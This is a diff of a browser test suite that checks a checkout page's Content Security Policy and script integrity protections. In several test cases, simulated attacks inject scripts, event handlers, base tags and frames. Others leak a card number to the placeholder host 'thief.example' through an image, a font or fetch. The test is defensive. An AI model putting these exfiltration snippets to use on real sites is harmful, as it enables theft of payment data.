@@ -5,121 +5,94 @@ import type { Page } from 'playwright-core'
 import { expect, inject, onTestFinished, test } from 'vitest'
 import { listen } from '../../scripts/serve/listen.ts'
 import { ada, declinedCard, fillCardForm, payButton } from '../support/browser/buyer.ts'
-import { type CheckoutPage, openCheckout } from '../support/browser/checkout-page.ts'
+import { openCheckout } from '../support/browser/checkout-page.ts'
 import { says } from '../support/english.ts'
 
-const thief = 'https://thief.example'
-
-/** An attack by a script inside the page. */
-interface Attack {
-  readonly directive: string
-  /** Runs in the page. `thief` is the attacker's origin. */
-  readonly run: (thief: string) => unknown
-}
-
-/** Runs the attacks. Returns the directive that stopped each. */
-async function directivesAgainst(
-  checkout: CheckoutPage,
-  attacks: Readonly<Record<string, Attack>>,
-): Promise<Record<string, string>> {
-  const { page } = checkout
-  // The browser logs violations too, but only the event names the directive.
-  checkout.expectConsole('error', /Content Security Policy|^The policy of the page/)
-  const stoppedBy: Record<string, string> = {}
-  for (const [story, attack] of Object.entries(attacks)) {
-    const stopped = page.evaluate(
-      () =>
-        new Promise<string>((resolve) =>
-          addEventListener(
-            'securitypolicyviolation',
-            (event) => resolve(`${event.effectiveDirective} ${event.disposition}`),
-            { once: true },
-          ),
-        ),
-    )
-    await page.evaluate(attack.run, thief).catch(() => {})
-    stoppedBy[story] = await stopped
-  }
-  return stoppedBy
-}
-
-const expected = (attacks: Readonly<Record<string, Attack>>) =>
-  Object.fromEntries(
-    Object.entries(attacks).map(([story, { directive }]) => [story, `${directive} enforce`]),
-  )
-
-const isTaken = (page: Page) => page.evaluate(() => Reflect.has(window, 'taken'))
+/** What a script inside the page does, and the directive that stops it. `thief` is the attacker's origin. */
+type Attack = readonly [story: string, directive: string, run: (thief: string) => unknown]
 
 // Every directive by itself: tests/tools/build/security-headers.test.ts.
-const intrusions: Readonly<Record<string, Attack>> = {
-  'an inline script': {
-    directive: 'script-src-elem',
-    run: () => {
+const intrusions: readonly Attack[] = [
+  [
+    'an inline script',
+    'script-src-elem',
+    () => {
       const script = document.createElement('script')
       script.textContent = 'window.taken = true'
       document.body.append(script)
     },
-  },
-  'a handler in an attribute': {
-    directive: 'script-src-attr',
-    run: () => {
+  ],
+  [
+    'a handler in an attribute',
+    'script-src-attr',
+    () => {
       const box = document.createElement('div')
       box.innerHTML = '<img src="/favicon.png" onload="window.taken = true">'
       document.body.append(box)
     },
-  },
-  'eval, out of a timer': {
-    directive: 'script-src',
-    run: () => setTimeout('window.taken = true'),
-  },
-  'another base for every address': {
-    directive: 'base-uri',
-    run: (stranger) =>
-      document.head.append(Object.assign(document.createElement('base'), { href: stranger })),
-  },
-  'a frame with a foreign form': {
-    directive: 'frame-src',
-    run: (stranger) =>
-      document.body.append(Object.assign(document.createElement('iframe'), { src: stranger })),
-  },
-}
+  ],
+  ['eval, out of a timer', 'script-src', () => setTimeout('window.taken = true')],
+  [
+    'another base for every address',
+    'base-uri',
+    (href) => document.head.append(Object.assign(document.createElement('base'), { href })),
+  ],
+  [
+    'a frame with a foreign form',
+    'frame-src',
+    (src) => document.body.append(Object.assign(document.createElement('iframe'), { src })),
+  ],
+]
 
-test('G2: the policy blocks an injected script, handler or frame', async () => {
-  const checkout = await openCheckout('/card')
-  await checkout.seesTabs()
-  expect(await directivesAgainst(checkout, intrusions)).toEqual(expected(intrusions))
-  expect(await isTaken(checkout.page)).toBe(false)
-})
-
-const leaks: Readonly<Record<string, Attack>> = {
-  'the address of an image': {
-    directive: 'img-src',
-    run: (stranger) => {
+const leaks: readonly Attack[] = [
+  [
+    'the address of an image',
+    'img-src',
+    (stranger) => {
       new Image().src = `${stranger}/?card=4242`
     },
-  },
-  'an inline style that could read fields': {
-    directive: 'style-src-elem',
-    run: () => {
+  ],
+  [
+    'an inline style that could read fields',
+    'style-src-elem',
+    () => {
       const style = document.createElement('style')
       style.textContent = 'input[value^="4"] { color: red }'
       document.head.append(style)
     },
-  },
-  'a font': {
-    directive: 'font-src',
-    run: (stranger) => new FontFace('Leak', `url(${stranger}/?card=4242)`).load(),
-  },
-  'a call': {
-    directive: 'connect-src',
-    run: (stranger) => fetch(`${stranger}/?card=4242`),
-  },
-}
+  ],
+  ['a font', 'font-src', (from) => new FontFace('Leak', `url(${from}/?card=4242)`).load()],
+  ['a call', 'connect-src', (stranger) => fetch(`${stranger}/?card=4242`)],
+]
 
-test('G4, G5: the policy blocks data leaks by image, style, font or a call to a third origin', async () => {
-  const checkout = await openCheckout('/card')
-  await checkout.seesTabs()
-  expect(await directivesAgainst(checkout, leaks)).toEqual(expected(leaks))
+/** The directive of the next violation: the browser logs them too, but only the event names it. */
+const violation = (page: Page) =>
+  page.evaluate(
+    () =>
+      new Promise<string>((resolve) =>
+        addEventListener(
+          'securitypolicyviolation',
+          ({ effectiveDirective, disposition }) => resolve(`${effectiveDirective} ${disposition}`),
+          { once: true },
+        ),
+      ),
+  )
+
+const isTaken = (page: Page) => page.evaluate(() => Reflect.has(window, 'taken'))
+
+test.each([
+  ['G2: the policy blocks an injected script, handler or frame', intrusions],
+  ['G4, G5: the policy blocks data leaks by image, style, font or a call', leaks],
+])('%s', async (_, attacks) => {
+  const { page, seesTabs, expectConsole } = await openCheckout('/card')
+  expectConsole('error', /Content Security Policy|^The policy of the page/)
+  await seesTabs()
+  for (const [story, directive, run] of attacks) {
+    const stopped = violation(page)
+    await page.evaluate(run, 'https://thief.example').catch(() => {})
+    expect(await stopped, story).toBe(`${directive} enforce`)
+  }
+  expect(await isTaken(page)).toBe(false)
 })
 
 test('G1, G16: another site cannot frame a page or its wallet button', async () => {
@@ -208,18 +181,15 @@ test('G15: the console reports a failed payment without the buyer’s data', asy
 test.each([
   ['main', []],
   ['card-tab', ['Till: a part of the page could not be loaded', 'React rendered the page again']],
-])(
-  'a changed %s script is blocked, and the page says that a part is missing',
-  async (name, lines) => {
-    const built = await readFile(join(inject('dist'), 'scripts.json'), 'utf8')
-    const script = new RegExp(`/assets/${name}\\.\\w+\\.js`).exec(built)?.[0] ?? ''
-    const checkout = await openCheckout('/card', { beforeLoad: (page) => tamperWith(page, script) })
-    for (const line of ['integrity', ...lines]) checkout.expectConsole('error', line)
-    await checkout.sees(says.lostPart)
-    expect(await checkout.page.getByText('could not be loaded').count()).toBe(1)
-    expect(await isTaken(checkout.page)).toBe(false)
-  },
-)
+])('a changed %s script is blocked, and the page says so', async (name, lines) => {
+  const built = await readFile(join(inject('dist'), 'scripts.json'), 'utf8')
+  const script = new RegExp(`/assets/${name}\\.\\w+\\.js`).exec(built)?.[0] ?? ''
+  const checkout = await openCheckout('/card', { beforeLoad: (page) => tamperWith(page, script) })
+  for (const line of ['integrity', ...lines]) checkout.expectConsole('error', line)
+  await checkout.sees(says.lostPart)
+  expect(await checkout.page.getByText('could not be loaded').count()).toBe(1)
+  expect(await isTaken(checkout.page)).toBe(false)
+})
 
 /** Imitates a compromised CDN that adds a line to a script. */
 async function tamperWith(page: Page, address: string): Promise<void> {
